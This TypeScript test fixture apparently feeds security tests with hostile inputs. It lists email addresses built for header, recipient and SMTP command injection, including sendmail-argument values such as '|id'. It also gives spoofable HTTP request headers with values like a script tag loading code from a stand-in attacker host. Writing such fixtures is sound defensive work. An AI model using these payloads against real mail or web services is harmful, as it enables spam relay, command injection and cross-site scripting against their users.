import { PAYLOADS } from '../attack/payloads.ts';

/** A host of an attacker. */
export const EVIL = 'foreign.invalid';
const BREAKS = ['\r\n', '\n', '\r', '\u2028', '\u0085', '\0', '%0d%0a', '\r\n\r\n'];

/** Addresses that would add headers, recipients or commands where something takes them for more than an address. */
export const ADDRESSES: readonly string[] = [
  ...BREAKS.flatMap((end) => [
    `a@x.example.org${end}Bcc: eve@${EVIL}`,
    `a${end}Bcc: eve@${EVIL}@x.example.org`,
    `${end}eve@${EVIL}`,
    `a@x.example.org>${end}RCPT TO:<eve@${EVIL}>`,
  ]),
  `"a" <eve@${EVIL}>`,
  `Ada <eve@${EVIL}>`,
  `a@x.example.org, eve@${EVIL}`,
  `a@x.example.org;eve@${EVIL}`,
  `a@x.example.org eve@${EVIL}`,
  `<@x.example.org:eve@${EVIL}>`,
  `"a@x.example.org eve"@${EVIL}`,
  `group:eve@${EVIL};`,
  `a(eve@${EVIL})@x.example.org`,
  `a@x.example.org?bcc=eve@${EVIL}`,
  `mailto:eve@${EVIL}`,
  `a@[127.0.0.1]`,
  'a@127.0.0.1',
  'a@localhost',
  'root',
  '@x.example.org',
  'a@',
  `a@${'x'.repeat(300)}.example.org`,
  `${'a'.repeat(10_000)}@x.example.org`,
  '=?utf-8?B?YQ==?= <a@x.example.org>',
  'a@x.example.org\u202Egro',
  'a\u200B@x.example.org',
  '-oQ/tmp@x.example.org',
  '|id@x.example.org',
  ...PAYLOADS.flatMap(([, text]) => [text.slice(0, 300), `${text.slice(0, 60)}@x.example.org`]),
];

/** Headers of a request in which a client can write something. */
export const HEADERS = [
  'Host',
  'X-Forwarded-Host',
  'X-Forwarded-Proto',
  'X-Forwarded-Prefix',
  'X-Original-URL',
  'X-Rewrite-URL',
  'Forwarded',
  'Origin',
  'Referer',
  'Via',
  'User-Agent',
  'Accept-Language',
  'Cookie',
  'Authorization',
  'X-Real-IP',
  'From',
];
/** Their values. */
export const VALUES = [
  EVIL,
  `https://${EVIL}/`,
  `"><script src=//${EVIL}/x.js></script>`,
  `x, ${EVIL}`,
  '::error::forged',
  `\u009b31m${EVIL}`.replace(/[^\u0020-\u00ff]/gu, ''),
];
